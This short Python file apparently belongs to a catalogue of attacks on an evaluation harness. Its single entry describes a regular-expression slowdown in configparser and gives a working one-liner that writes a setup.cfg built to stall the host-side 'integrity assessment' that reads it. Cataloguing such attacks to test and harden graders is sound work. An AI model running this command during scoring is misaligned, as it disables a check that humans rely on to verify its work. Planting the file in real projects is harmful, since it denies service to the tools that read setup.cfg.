"""A line of configuration that the standard library's reader needs minutes for, and does not let go of meanwhile."""

from scoring.attacks.exploit import Exploit

EXPLOIT = Exploit(
    name="slow-configuration",
    flaw="feeds the grader",
    source="configparser: its pattern for `option = value` tries every end of the option against every run of blanks",
    idea="whoever looks for plug-ins in setup.cfg reads it: in 256 KiB one pattern match takes seven minutes",
    command="""python3 -c "open('setup.cfg', 'w').write('[a]\\nx' + ' ' * 48000 + 'y')" """,
    aims_at="the integrity assessment, which reads both trees on the host",
)
